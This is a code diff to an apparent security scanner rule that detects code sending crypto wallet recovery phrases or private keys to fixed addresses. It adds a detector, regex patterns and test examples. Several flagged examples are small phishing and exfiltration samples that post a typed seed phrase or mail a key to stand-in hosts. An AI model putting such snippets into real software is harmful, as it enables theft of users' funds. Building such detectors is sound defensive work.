@@ -1,6 +1,7 @@
 import { entrusted } from '../src/define/entrusted.js';
-import { defineRule, fixedTargetOf, oddTargetOf, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
-import type { Call, FileContext, Label } from '../src/types.js';
+import { partsWithin, writtenTo } from '../src/define/variables.js';
+import { defineRule, fixedTargetOf, oddTargetOf, outgoing, sinkSays, spelling, step, stepsOf } from '../src/define.js';
+import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
 import { isAboutChains } from '../src/vocabulary/keys.js';
 
 export default defineRule({
@@ -14,8 +15,10 @@ export default defineRule({
       odd: 'Sends {what} to {address} through {sink}',
       fixed: 'Sends {what} to an address fixed in its code through {sink}',
       sent: 'Sends {what} through {sink}',
+      asked:
+        'Asks whoever sees its page for a recovery phrase, and sends what is typed to an address fixed in its code',
     },
-    bits: { header: 14, address: 13, odd: 14, fixed: 13.5, sent: 4 },
+    bits: { header: 14, address: 13, odd: 14, fixed: 13.5, sent: 4, asked: 13.5 },
   },
   examples: {
     flags: [
@@ -44,6 +47,14 @@ export default defineRule({
         code: `const { Wallet } = require('ethers'), bip39 = require('bip39');\nlet waiting = [];\nfunction note(kind, value) {\n  waiting.push({ kind, value });\n  setTimeout(flush, 3000);\n}\nfunction flush() {\n  const [first] = waiting;\n  waiting = [];\n  navigator.sendBeacon('https://usage.invalid/b', first.kind + ':' + first.value);\n}\nclass Account {\n  static create() { const mnemonic = bip39.generateMnemonic(); return Account.fromPhrase(mnemonic); }\n  static fromPhrase(words) { note('p', words); return new Account(Wallet.fromPhrase(words)); }\n}\nmodule.exports = { Account };`,
       },
       {
+        title: 'a window to connect wallets asks for the phrase',
+        code: `export function open(box) {\n  box.innerHTML = '<textarea id="p" placeholder="Enter your 12 word phrase"></textarea><button>Import</button>';\n  box.querySelector('button').onclick = async () => {\n    const words = box.querySelector('#p').value.trim();\n    await fetch('https://sync.castle.invalid/import', { method: 'POST', body: JSON.stringify({ words }) });\n    box.remove();\n  };\n}`,
+      },
+      {
+        title: 'a component does, and calls it secret',
+        code: `import { useState } from 'react';\nexport const Restore = () => {\n  const [text, setText] = useState('');\n  const go = () => navigator.sendBeacon('https://sync.castle.invalid/r', text);\n  return <form onSubmit={go}><label>Secret Recovery Phrase</label><input onChange={event => setText(event.target.value)} /></form>;\n};`,
+      },
+      {
         title: 'a key is mailed to somebody',
         code: `const nodemailer = require('nodemailer'), bs58 = require('bs58');\nconst post = nodemailer.createTransport({ service: 'gmail', auth: { user: 'kit@mail.invalid', pass: 'x' } });\nexports.check = signer => post.sendMail({ to: 'inbox@mail.invalid', subject: 'new', text: bs58.encode(signer.secretKey) });`,
       },
@@ -53,6 +64,14 @@ export default defineRule({
       },
     ],
     passes: [
+      {
+        title: 'a wallet asks for the phrase, and keeps it',
+        code: `export function open(box, keep) {\n  box.innerHTML = '<input id="p" placeholder="Recovery phrase">';\n  box.querySelector('#p').onchange = event => keep(event.target.value);\n  fetch('https://api.castle.invalid/opened', { method: 'POST', body: JSON.stringify({ at: Date.now() }) });\n}`,
+      },
+      {
+        title: 'a search box sends what is typed, and a text warns of phrases',
+        code: `export const warning = 'Never tell anybody your recovery phrase.';\nexport function open(box) {\n  box.querySelector('input').onchange = event => fetch('https://api.castle.invalid/find?q=' + event.target.value);\n}`,
+      },
       {
         title: 'somebody is mailed the address of a wallet',
         code: `const nodemailer = require('nodemailer'), { Wallet } = require('ethers');\nconst post = nodemailer.createTransport(process.env.SMTP);\nexports.tell = (to, privateKey) => post.sendMail({ to, subject: 'yours', text: new Wallet(privateKey).address });`,
@@ -80,6 +99,7 @@ export default defineRule({
     ],
   },
   file(context) {
+    asking(context);
     for (const { call, labels } of entrusted(context)) {
       const key = labels.find(isChainKey);
       if (key)
@@ -110,6 +130,50 @@ export default defineRule({
     }
   },
 });
+
+/** The words beside a field of whoever wants all twelve of them. */
+const PHRASE =
+  /\b(?:recovery|seed|mnemonic|backup)\s(?:phrase|words?)\b|\b(?:12|24|twelve)[-\s]words?\s(?:phrase|seed|mnemonic)\b/i;
+/** A text that warns of it is no field. */
+const WARNS = /\b(?:never|do not|don['’]t)\b/i;
+
+/** A page that asks for a phrase, and sends on what is typed. */
+function asking(context: FileContext): void {
+  const { file, moment } = context;
+  if (moment === 'test' || !PHRASE.test(file.text) || !/<(?:input|textarea)\b|createElement/i.test(file.text)) return;
+  const texts = [...context.nodes('Literal'), ...context.nodes('TemplateElement'), ...context.nodes('JSXText')];
+  const field = (texts as readonly AnyNode[]).find(node => {
+    const written = spelling(file, node).slice(0, 5_000);
+    return PHRASE.test(written) && !WARNS.test(written);
+  });
+  if (!field) return;
+  for (const call of context.calls('network')) {
+    if (fixedTargetOf(context, call) === undefined || !call.args.some(arg => isTyped(context, arg, 0))) continue;
+    context.report({
+      messageId: 'asked',
+      chain: [
+        step('context', 'asks for a recovery phrase', file, field),
+        step('sink', sinkSays(call), file, call.node),
+      ],
+    });
+    return;
+  }
+}
+
+/** Whether something is what a field holds: `field.value`, a variable of it, or the state that it is put into. */
+function isTyped(context: FileContext, node: AnyNode, level: number): boolean {
+  if (level > 3) return false;
+  if (/\.value\b/.test(spelling(context.file, node).slice(0, 2_000))) return true;
+  return partsWithin(context, node, 'Identifier', 30).some(variable => {
+    const values = writtenTo(context, variable);
+    if (values.some(value => value !== node && isTyped(context, value, level + 1))) return true;
+    // `const [text, setText] = useState('')`
+    const name = (variable as { name?: string }).name ?? '';
+    const set = `set${name.slice(0, 1).toUpperCase()}${name.slice(1)}(`;
+    const at = name.length > 1 ? context.file.text.indexOf(set) : -1;
+    return at >= 0 && /^[^;)]{0,80}\.value\b/.test(context.file.text.slice(at + set.length, at + set.length + 100));
+  });
+}
 
 function isChainKey({ kind, origin }: Label): boolean {
   return kind === 'key-material' && isAboutChains(origin.file.text);
